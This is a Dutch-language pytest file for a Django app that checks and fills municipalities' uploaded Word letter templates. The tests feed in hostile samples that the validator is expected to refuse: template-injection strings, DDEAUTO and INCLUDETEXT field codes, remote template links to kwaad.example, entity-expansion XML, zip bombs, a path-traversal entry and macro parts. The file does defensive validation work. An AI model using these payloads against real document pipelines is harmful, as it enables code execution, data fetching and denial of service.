"""A gemeente's own Word template: what comes in, what is refused with which sentence, and what a letter on it is."""

import io
import re
import time
import zipfile
from functools import partial

import docx
import mammoth
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx.shared import Pt

from coalitie.bestandscontrole import Geweigerd
from coalitie.briefpapier import keuring
from coalitie.briefpapier.invullen import vul_in
from coalitie.briefpapier.keuring import keur
from coalitie.briefpapier.plaatshouders import PLAATSHOUDERS
from coalitie.briefpapier.voorbeeld import maak_voorbeeld
from coalitie.export.blokken import blokken
from coalitie.export.docx import maak_docx
from coalitie.export.platte_tekst import blokken_van
from coalitie.models import Logregel
from coalitie.rollen import Rol
from strategie.models import Briefpapier
from tests.brief.stukken import brief
from tests.coalitie.exportstukken import TEKST
from tests.fabriek import BriefpapierFactory, GebruikerFactory, GemeenteFactory, IndelingFactory, MedewerkerFactory
from tests.portaal.inlog import geef_wachtwoord, ingelogde

ALLES = [f"{{{{ {naam} }}}}" for naam in PLAATSHOUDERS]


def papier(*alineas, kop=""):
    """A Word document with these paragraphs, on the template of Word itself."""
    word = docx.Document()
    word.sections[0].header.paragraphs[0].text = kop
    for alinea in alineas:
        word.add_paragraph(alinea)
    return bewaard(word)


def bewaard(word):
    uit = io.BytesIO()
    word.save(uit)
    return uit.getvalue()


def herpakt(inhoud, *, erbij=None, anders=lambda naam, deel: deel):
    """The same zip with parts changed or added."""
    uit = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(inhoud)) as bron, zipfile.ZipFile(uit, "w", zipfile.ZIP_DEFLATED) as doel:
        for naam in bron.namelist():
            doel.writestr(naam, anders(naam, bron.read(naam)))
        for naam, deel in (erbij or {}).items():
            doel.writestr(naam, deel)
    return uit.getvalue()


def met_relatie(inhoud, relatie):
    def anders(naam, deel):
        if naam != "word/_rels/document.xml.rels":
            return deel
        return deel.replace(b"</Relationships>", f"{relatie}</Relationships>".encode())

    return herpakt(inhoud, anders=anders)


def relatie(soort, doel, extern=True):
    basis = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    buiten = ' TargetMode="External"' if extern else ""
    return f'<Relationship Id="rIdX" Type="{basis}/{soort}" Target="{doel}"{buiten}/>'


def weigering(inhoud, naam="papier.docx"):
    try:
        keur(io.BytesIO(inhoud), naam)
    except Geweigerd as fout:
        return " ".join(fout.messages)
    return ""


def woorden(inhoud):
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", mammoth.convert_to_html(io.BytesIO(inhoud)).value)).strip()


GOED = papier(*ALLES)


def test_het_voorbeeld_wordt_zelf_goedgekeurd_en_geeft_de_brief_van_de_coalitie():
    voorbeeld = maak_voorbeeld()

    assert weigering(voorbeeld) == ""
    assert [naam for naam in PLAATSHOUDERS if f"{{{{ {naam} }}}}" not in woorden(voorbeeld)] == ["datum", "kenmerk"]
    assert woorden(vul_in(voorbeeld, brief())) == (
        "Gemeente Zeist Aan de gemeenteraad van Zeist Het Rond 1 Zeist, 8 april 2019 Kenmerk: Z-2019/12 "
        "Regionale Veiligheidsstrategie 2019-2022 Geachte leden van de raad, De punten van uw raad Eén Twee "
        "Zie https://portaal.example/strategie/ . Met vriendelijke groet, de burgemeester van Zeist"
    )


def test_eigen_papier_houdt_kop_letter_en_stijlen_en_krijgt_de_tekst_van_de_brief():
    word = docx.Document()
    word.sections[0].header.paragraphs[0].text = "Gemeente met eigen logo, {{afzender}}"
    cellen = word.add_table(1, 2).rows[0].cells
    cellen[0].text, cellen[1].text = "Ons kenmerk: {{ kenmerk }}", "{{ datum }}"
    regel = word.add_paragraph("Over: ")
    for stuk in ("{", "{ onder", "werp }", "} dus"):  # as Word cuts a text that was typed and corrected
        regel.add_run(stuk)
    plek = word.add_paragraph().add_run("{{ brief }}")
    plek.font.name, plek.font.size = "Georgia", Pt(9)
    sjabloon = bewaard(word)

    assert weigering(sjabloon) == ""
    ingevuld = docx.Document(io.BytesIO(vul_in(sjabloon, brief(blokken=blokken(TEKST)))))

    assert ingevuld.sections[0].header.paragraphs[0].text == "Gemeente met eigen logo, Gemeente Zeist"
    assert [cel.text for cel in ingevuld.tables[0].rows[0].cells] == ["Ons kenmerk: Z-2019/12", "Zeist, 8 april 2019"]
    assert ingevuld.paragraphs[0].text == "Over: Regionale Veiligheidsstrategie 2019-2022 dus"
    stijlen = [alinea.style.name for alinea in ingevuld.paragraphs if alinea.text]
    assert stijlen == [
        *("Normal", "Heading 2", "Normal", "Heading 3", *["List Paragraph"] * 4, "Quote", "Caption"),
        *("Begrip", "Uitleg"),
    ]
    alinea = next(alinea for alinea in ingevuld.paragraphs if alinea.text.startswith("Het OM"))
    assert {(stuk.font.name, stuk.font.size) for stuk in alinea.runs} == {("Georgia", Pt(9))}
    assert [rij.cells[0].text for rij in ingevuld.tables[1].rows] == ["Wie", "Politie"]
    assert (ingevuld.core_properties.title, ingevuld.core_properties.language) == (brief().onderwerp, "nl-NL")


W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def talen_van(alineas):
    return {taal.get(f"{W}val") for alinea in alineas for taal in alinea._p.iter(f"{W}lang")}


def test_op_papier_uit_een_engelse_word_wordt_de_brief_in_het_nederlands_voorgelezen():
    word = docx.Document(io.BytesIO(GOED))
    assert {taal.get(f"{W}val") for taal in word.styles.element.iter(f"{W}lang")} == {"en-US"}
    for alinea in word.paragraphs:  # as Word writes it where somebody typed in English
        alinea.runs[0]._r.get_or_add_rPr().append(alinea._p.makeelement(f"{W}lang", {f"{W}val": "en-US"}))
    eigen = word.add_paragraph().add_run("Find us at example.com")
    eigen._r.get_or_add_rPr().append(eigen._r.makeelement(f"{W}lang", {f"{W}val": "en-GB"}))

    ingevuld = docx.Document(io.BytesIO(vul_in(bewaard(word), brief(blokken=blokken(TEKST)))))

    assert {taal.get(f"{W}val") for taal in ingevuld.styles.element.iter(f"{W}lang")} == {"nl-NL"}
    *van_ons, van_hen = [alinea for alinea in ingevuld.paragraphs if alinea.text]
    assert talen_van(van_ons) == {"nl-NL"}
    assert [talen_van([alinea]) for alinea in van_ons if alinea.runs and not talen_van([alinea])] == []
    assert talen_van([van_hen]) == {"en-GB"}


def test_het_onderwerp_op_een_eigen_regel_is_de_kop_boven_de_koppen_van_de_brief():
    def stijl(*, alinea="{{ onderwerp }}", eigen=None):
        word = docx.Document(io.BytesIO(papier("{{ brief }}")))
        plek = word.paragraphs[0].insert_paragraph_before(alinea, style=eigen)
        plek.runs[0].font.size = Pt(9)
        gevuld = docx.Document(io.BytesIO(vul_in(bewaard(word), brief()))).paragraphs[0]
        niveaus = [niveau.get(f"{W}val") for niveau in gevuld._p.iter(f"{W}outlineLvl")]
        return gevuld.style.name, niveaus, gevuld.runs[0].font.size

    assert stijl() == ("Heading 1", [], Pt(9))
    assert stijl(eigen="Heading 1") == ("Heading 1", [], Pt(9))
    assert stijl(eigen="Title") == ("Title", ["0"], Pt(9))
    assert stijl(alinea="Over: {{ onderwerp }}") == ("Normal", [], Pt(9))


def test_een_onderwerp_in_een_tabel_of_kopregel_houdt_zijn_eigen_stijl():
    word = docx.Document(io.BytesIO(papier("{{ brief }}", kop="{{ onderwerp }}")))
    word.add_table(1, 2).rows[0].cells[1].text = "{{ onderwerp }}"

    ingevuld = docx.Document(io.BytesIO(vul_in(bewaard(word), brief())))

    assert ingevuld.tables[0].rows[0].cells[1].paragraphs[0].style.name == "Normal"
    assert ingevuld.sections[0].header.paragraphs[0].style.name == "Header"


def test_wat_in_een_brief_op_een_plaatshouder_lijkt_wordt_niet_nog_eens_ingevuld():
    sjabloon = papier(*ALLES)
    stuk = brief(onderwerp="{{ aan }} & <b>vet</b>", kenmerk="{{ brief }}")

    ingevuld = [alinea.text for alinea in docx.Document(io.BytesIO(vul_in(sjabloon, stuk))).paragraphs]

    assert "{{ aan }} & <b>vet</b>" in ingevuld
    assert ingevuld.count("Geachte leden van de raad,") == 1


def test_lege_velden_en_een_brief_zonder_tekst_breken_het_papier_niet():
    ingevuld = vul_in(GOED, brief(kenmerk="", plaats_en_datum="", ondertekening=[], blokken=[]))

    assert "{{" not in woorden(ingevuld)


@pytest.mark.parametrize(
    ("velden", "regels"),
    [
        ({}, "Zeist, 8 april 2019\nKenmerk: Z-2019/12"),
        ({"kenmerk": ""}, "Zeist, 8 april 2019"),
        ({"plaats_en_datum": ""}, "Kenmerk: Z-2019/12"),
    ],
)
def test_op_het_voorbeeld_staat_geen_kenmerk_zonder_kenmerk_en_geen_lege_regel_voor_een_datum(velden, regels):
    ingevuld = docx.Document(io.BytesIO(vul_in(maak_voorbeeld(), brief(**velden))))

    assert [alinea.text for alinea in ingevuld.paragraphs if alinea.style.name == "Dagtekening"] == [regels]


def test_uit_welk_bestand_op_wiens_schijf_het_papier_kwam_staat_niet_in_de_brief():
    sjabloon = docx.Document(io.BytesIO(GOED))
    instellingen = sjabloon.settings.element
    deel = next(r.target_part for r in sjabloon.part.rels.values() if r.reltype.endswith("/settings"))
    soort = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    sleutel = deel.relate_to("file:///C:\\Gebruikers\\jjansen\\brief.dotx", soort, is_external=True)
    herkomst = instellingen.makeelement(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}attachedTemplate",
        {"{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id": sleutel},
    )
    instellingen.insert(0, herkomst)
    inhoud = bewaard(sjabloon)
    assert any(
        b"jjansen" in zipfile.ZipFile(io.BytesIO(inhoud)).read(naam)
        for naam in zipfile.ZipFile(io.BytesIO(inhoud)).namelist()
    )

    assert weigering(inhoud) == ""
    ingevuld = zipfile.ZipFile(io.BytesIO(vul_in(inhoud, brief())))
    assert [naam for naam in ingevuld.namelist() if b"jjansen" in ingevuld.read(naam)] == []


@pytest.mark.parametrize(
    ("alineas", "zin"),
    [
        (["{{ ''.__class__ }}", "{{ brief }}"], "Dit kan hier niet: ‘{{ ''.__class__ }}’."),
        (["{% for x in range(10**9) %}", "{{ brief }}"], "Dit kan hier niet: ‘{% for x in range(10**9) %}’."),
        (["{{ range(10**9) }}", "{{ brief }}"], "Dit kan hier niet: ‘{{ range(10**9) }}’."),
        (["{{ aan|length }}", "{{ brief }}"], "Dit kan hier niet: ‘{{ aan|length }}’."),
        (["{{ aan.zoek }}", "{{ brief }}"], "Dit kan hier niet: ‘{{ aan.zoek }}’."),
        (["{{p brief }}", "{{ brief }}"], "Dit kan hier niet: ‘{{p brief }}’."),
        (["{# verborgen #}", "{{ brief }}"], "Dit kan hier niet: ‘{# verborgen #}’."),
        (["{{ aan", "}}", "{{ brief }}"], "Dit kan hier niet: ‘{{ aan’."),
        (["{{{ aan }}}", "{{ brief }}"], ""),
        (
            ["{{ onderwrep }}", "{{ brief }}"],
            "De plaatshouder {{ onderwrep }} bestaat niet. Bedoelt u {{ onderwerp }}",
        ),
        (["{{ self }}", "{{ brief }}"], "De plaatshouder {{ self }} bestaat niet."),
        (["Alleen tekst"], keuring.GEEN_BRIEF),
        (["{{ brief }}", "{{ brief }}"], keuring.BRIEF_VAKER),
        (["Tekst {{ brief }}"], keuring.BRIEF_NIET_ALLEEN),
        (["{{ brief }} {{ brief }}"], keuring.BRIEF_NIET_ALLEEN),
    ],
)
def test_tussen_accolades_staat_alleen_een_naam_die_wij_kennen(alineas, zin):
    gezegd = weigering(papier(*alineas))

    assert gezegd.startswith(zin)
    assert bool(gezegd) == bool(zin)


def test_ook_in_kopteksten_en_in_stukken_geknipt_wordt_niets_overgeslagen():
    in_kop = papier("{{ brief }}", kop="{{ config }}")
    brief_in_kop = papier("Tekst", kop="{{ brief }}")
    geknipt = docx.Document(io.BytesIO(papier("{{ brief }}")))
    regel = geknipt.add_paragraph()
    for stuk in ("{", "{ ().", "__class__", " }", "}"):
        regel.add_run(stuk)

    assert weigering(in_kop).startswith("De plaatshouder {{ config }} bestaat niet.")
    assert weigering(brief_in_kop) == keuring.BRIEF_NIET_ALLEEN
    assert weigering(bewaard(geknipt)).startswith("Dit kan hier niet: ‘{{ ().__class__ }}’.")


@pytest.mark.parametrize(
    ("koppeling", "zin"),
    [
        (
            relatie("attachedTemplate", "https://kwaad.example/x.dotm"),
            "Dit bestand haalt bij het openen iets op",
        ),
        (relatie("image", "https://kwaad.example/volg.png"), "Dit bestand haalt bij het openen iets op"),
        (relatie("image", "file:///C:/logo.png"), keuring.MET_KOPPELING),
        (relatie("oleObject", "embeddings/rekenblad.xlsx", extern=False), keuring.MET_ANDER_BESTAND),
        (relatie("aFChunk", "stuk.html", extern=False), keuring.MET_ANDER_BESTAND),
    ],
)
def test_papier_dat_iets_van_elders_haalt_of_meebrengt_komt_niet_binnen(koppeling, zin):
    assert weigering(met_relatie(GOED, koppeling)).startswith(zin)


@pytest.mark.parametrize(
    "opdracht", ['INCLUDETEXT "C:\\geheim.txt"', "DDEAUTO c:\\cmd", 'INCLUDEPICTURE "https://x/y"']
)
@pytest.mark.parametrize("in_stukken", [False, True])
def test_een_veld_dat_iets_ophaalt_of_start_komt_niet_binnen(opdracht, in_stukken):
    tussen = "</w:instrText></w:r><w:r><w:instrText>".join(opdracht) if in_stukken else opdracht
    veld = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        f'{tussen}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr'
    )
    inhoud = herpakt(
        GOED,
        anders=lambda naam, deel: deel.replace(b"<w:sectPr", veld.encode(), 1) if naam == "word/document.xml" else deel,
    )

    assert weigering(inhoud).startswith("In dit document staat een veld dat iets ophaalt of uitvoert: ‘")


DDE = (
    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\cmd</w:instrText></w:r>'
    b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def met_andere_naam(inhoud, naam, erin):
    """The same document, whose text is in a part of this name, with something more in it."""
    uit = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(inhoud)) as bron, zipfile.ZipFile(uit, "w", zipfile.ZIP_DEFLATED) as doel:
        for oud in bron.namelist():
            deel = bron.read(oud).replace(b"word/document.xml", f"word/{naam}".encode())
            if oud == "word/document.xml":
                deel = erin(deel)
            doel.writestr(oud.replace("document.xml", naam), deel)
    return uit.getvalue()


@pytest.mark.parametrize("naam", ["document.bin", "document.XML", "document"])
@pytest.mark.parametrize(
    ("erin", "zin"),
    [
        (lambda deel: deel.replace(b"<w:sectPr", DDE + b"<w:sectPr", 1), "In dit document staat een veld"),
        (lambda deel: deel.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "b">]>', 1), "In dit bestand staat een verwijz"),
    ],
)
def test_een_deel_onder_een_andere_naam_wordt_even_goed_nagekeken(naam, erin, zin):
    inhoud = met_andere_naam(GOED, naam, erin)

    assert docx.Document(io.BytesIO(met_andere_naam(GOED, naam, bytes))).paragraphs
    assert weigering(inhoud).startswith(zin)


def test_papier_dat_gegevens_uit_een_verzendlijst_haalt_komt_niet_binnen():
    lijst = b'<w:mailMerge><w:connectString w:val="Data Source=kwaad.example"/><w:query w:val="SELECT"/></w:mailMerge>'

    def anders(naam, deel):
        return re.sub(rb"(<w:settings[^>]*>)", rb"\1" + lijst, deel) if naam == "word/settings.xml" else deel

    assert weigering(herpakt(GOED, anders=anders)) == keuring.SAMENVOEGING


def test_een_stijl_waar_een_brief_niet_bij_kan_wordt_bij_het_nakijken_gezien():
    def anders(naam, deel):
        kop = rb'(<w:style [^>]*?) w:styleId="[^"]*"([^>]*>\s*<w:name w:val="heading 2")'
        return re.sub(kop, rb"\1\2", deel) if naam == "word/styles.xml" else deel

    kapot = herpakt(maak_voorbeeld(), anders=anders)

    assert kapot != herpakt(maak_voorbeeld())
    assert weigering(kapot) == keuring.NIET_IN_TE_VULLEN


def test_een_bladzijdenummer_mag_wel():
    assert weigering(herpakt(maak_voorbeeld())) == ""
    assert b"NUMPAGES" in zipfile.ZipFile(io.BytesIO(maak_voorbeeld())).read("word/footer1.xml")


LACHERS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'


@pytest.mark.parametrize(
    ("maak", "naam", "zin"),
    [
        (lambda: b"", "papier.docx", "Dit bestand is leeg."),
        (lambda: b"%PDF-1.7\n", "papier.docx", "De naam zegt iets anders dan de inhoud"),
        (lambda: b"PK\x03\x04rommel", "papier.docx", "Dit bestand is niet heel of niet goed opgebouwd."),
        (lambda: GOED[:-40], "papier.docx", "Dit bestand is niet heel of niet goed opgebouwd."),
        (lambda: GOED, "papier.docm", "De naam zegt iets anders dan de inhoud"),
        (lambda: herpakt(GOED, erbij={"word/vbaProject.bin": b"x"}), "papier.docx", "In dit bestand zit een macro."),
        (
            lambda: herpakt(
                GOED,
                anders=lambda naam, deel: deel.replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                ),
            ),
            "papier.docx",
            "In dit bestand zit een macro.",
        ),
        (lambda: herpakt(GOED, erbij={"../../weg.xml": b"<x/>"}), "papier.docx", "Dit bestand is niet heel"),
        (
            lambda: herpakt(GOED, erbij={"word/lachers.xml": LACHERS}),
            "papier.docx",
            "In dit bestand staat een verwijzing (DTD)",
        ),
        (lambda: herpakt(GOED, erbij={"word/bom.xml": b" " * 60_000_000}), "papier.docx", "Uitgepakt is dit bestand"),
        (
            lambda: herpakt(GOED, erbij={f"b{n}.bin": bytes(range(256)) * 32_000 for n in range(3)}),
            "papier.docx",
            "Uitgepakt is dit bestand",
        ),
        (lambda: GOED + b"\0" * 2_000_000, "papier.docx", keuring.TE_GROOT),
        (lambda: papier("{{ brief }}", *["x"] * 2_001), "papier.docx", keuring.TE_LANG),
    ],
)
def test_een_kwaadwillig_of_kapot_bestand_wordt_geweigerd_met_een_zin(maak, naam, zin):
    assert weigering(maak(), naam).startswith(zin)


def test_duizenden_losse_accolades_kosten_geen_minuten():
    begin = time.process_time()

    gezegd = weigering(papier("{{ brief }}", "{{" * 200_000, "{% " * 200_000))

    assert gezegd.startswith("Dit kan hier niet: ‘{{{{")
    assert time.process_time() - begin < 10


PLEK = b"<w:p><w:r><w:t>{{ brief }}"
NAAMWOORD, LETTER = b"<w:r><w:t>{{datum}}</w:t></w:r>", b"<w:r><w:t>a</w:t></w:r>"


@pytest.mark.parametrize(
    ("stuk", "zin"),
    [
        (b"<w:p>" + NAAMWOORD * 101 + b"</w:p>", keuring.TE_VEEL_NAMEN),
        (b"<w:p>" + NAAMWOORD * 8_000 + b"</w:p>", keuring.TE_VEEL_NAMEN),
        (b"<w:p>" + LETTER * 20_001 + b"</w:p>", keuring.TE_LANG),
        (b"<w:p><w:r>" * 60 + b"<w:t/>" * 100_000 + b"</w:r></w:p>" * 60, keuring.TE_LANG),
        (b"<w:p><w:r>" * 60 + b"<w:t/>" * 19_000 + b"</w:r></w:p>" * 60, ""),
        (b"<w:p>" + NAAMWOORD * 90 + LETTER * 19_000 + b"</w:p>", ""),
        (b"<w:p>" + NAAMWOORD + b"<w:r><w:t>a" + b"\n" * 900_000 + b"b</w:t></w:r></w:p>", ""),
        (b"<w:p><w:r><w:t>" + b"{{datum}}" * 90 + b"a" * 2_000_000 + b"</w:t></w:r></w:p>", keuring.TE_LANG),
    ],
    ids=["namen", "veel namen", "stukken", "diep", "diep mag", "stukken mogen", "regels", "tekens"],
)
def test_papier_dat_in_stukken_is_geknipt_kost_geen_minuten(stuk, zin):
    def anders(naam, deel):
        return deel.replace(b"<w:sectPr", stuk + b"<w:sectPr", 1) if naam == "word/document.xml" else deel

    begin = time.process_time()

    assert weigering(herpakt(GOED, anders=anders)) == zin
    assert time.process_time() - begin < 10


def test_de_opmaak_bij_de_tekst_is_niet_groter_dan_die_van_een_alinea():
    opmaak = b"<w:p><w:pPr>" + b'<w:tab w:val="left"/>' * 300 + b"</w:pPr>"

    met_opmaak = herpakt(papier("{{ brief }}"), anders=lambda _naam, deel: deel.replace(PLEK, opmaak + PLEK[5:]))

    assert weigering(met_opmaak) == keuring.NIET_IN_TE_VULLEN


@pytest.mark.parametrize("maak", [maak_docx, partial(vul_in, GOED)], ids=["eigen opmaak", "briefpapier"])
def test_een_brief_met_duizenden_lijsten_en_links_houdt_de_rest_niet_op(maak):
    blokken = blokken_van("".join(f"- a\n\nhttps://a.nl/{nummer}\n" for nummer in range(19_600)))
    begin = time.process_time()

    gemaakt = zipfile.ZipFile(io.BytesIO(maak(brief(blokken=blokken)))).read("word/document.xml")

    assert time.process_time() - begin < 30
    assert len(set(re.findall(rb'<w:numId w:val="(\d+)"/>', gemaakt))) == 19_600


@pytest.fixture
def zeist(db):
    return IndelingFactory(gemeente__naam="Zeist", gemeente__slug="zeist").gemeente


def van(gemeente):
    gebruiker = GebruikerFactory(functie=None)
    MedewerkerFactory(gebruiker=gebruiker, gemeente=gemeente)
    return ingelogde(geef_wachtwoord(gebruiker))


def upload(inhoud, naam="Brief Zeist.docx"):
    return {"bestand": SimpleUploadedFile(naam, inhoud)}


def test_wie_voor_de_gemeente_werkt_plaatst_vervangt_en_verwijdert_het_papier(zeist):
    client = van(zeist)

    geplaatst = client.post("/mijn/briefpapier/zeist/", upload(GOED), follow=True)
    vervangen = client.post("/mijn/briefpapier/zeist/", upload(maak_voorbeeld(), "Nieuw.docx"), follow=True)

    assert "Uw briefpapier is nagekeken en bewaard." in geplaatst.text
    assert "Brief Zeist.docx" in geplaatst.text
    assert "Nieuw.docx" in vervangen.text
    bestand = client.get("/mijn/briefpapier/zeist/briefpapier.docx")
    assert b"".join(bestand) == maak_voorbeeld()
    assert bestand.headers["Content-Disposition"] == 'attachment; filename="Nieuw.docx"'

    weg = client.post("/mijn/briefpapier/zeist/verwijder/", follow=True)

    assert "Het briefpapier is weg." in weg.text
    assert not Briefpapier.objects.exists()
    assert list(Logregel.objects.filter(soort="briefpapier").order_by("pk").values_list("handeling", "titel")) == [
        ("briefpapier geplaatst", "briefpapier van Zeist"),
        ("briefpapier geplaatst", "briefpapier van Zeist"),
        ("briefpapier verwijderd", "briefpapier van Zeist"),
    ]


def test_geweigerd_papier_laat_het_oude_staan_en_zegt_waarom(zeist):
    oud = BriefpapierFactory(gemeente=zeist, naam="Oud.docx")
    client = van(zeist)

    antwoord = client.post("/mijn/briefpapier/zeist/", upload(papier("{{ ''.__class__ }}", "{{ brief }}")))

    assert "Dit kan hier niet: ‘{{ &#x27;&#x27;.__class__ }}’." in antwoord.text
    oud.refresh_from_db()
    assert oud.naam == "Oud.docx"


def test_het_bureau_leest_mee_maar_plaatst_niets_en_een_ander_ziet_niets(zeist):
    BriefpapierFactory(gemeente=zeist, naam="Geheim papier.docx")
    bureau = ingelogde(geef_wachtwoord(GebruikerFactory(rol=Rol.REDACTEUR)))
    elders = van(IndelingFactory(gemeente__slug="soest").gemeente)

    assert "Geheim papier.docx" in bureau.get("/mijn/briefpapier/zeist/").text
    assert bureau.post("/mijn/briefpapier/zeist/", upload(GOED)).status_code == 403
    assert bureau.post("/mijn/briefpapier/zeist/verwijder/").status_code == 403
    for adres in ("/mijn/briefpapier/zeist/", "/mijn/briefpapier/zeist/briefpapier.docx"):
        assert elders.get(adres).status_code == 404
    assert elders.post("/mijn/briefpapier/zeist/verwijder/").status_code == 404
    assert Briefpapier.objects.get().naam == "Geheim papier.docx"


def test_zichtbaar_is_alleen_het_eigen_papier(zeist):
    van_zeist, van_soest = BriefpapierFactory(gemeente=zeist), BriefpapierFactory(gemeente=GemeenteFactory())
    medewerker = GebruikerFactory(functie=None)
    MedewerkerFactory(gebruiker=medewerker, gemeente=zeist)

    assert list(Briefpapier.objects.zichtbaar_voor(medewerker)) == [van_zeist]
    assert list(Briefpapier.objects.bewerkbaar_door(medewerker)) == [van_zeist]
    assert set(Briefpapier.objects.zichtbaar_voor(GebruikerFactory(rol=Rol.REDACTEUR))) == {van_zeist, van_soest}
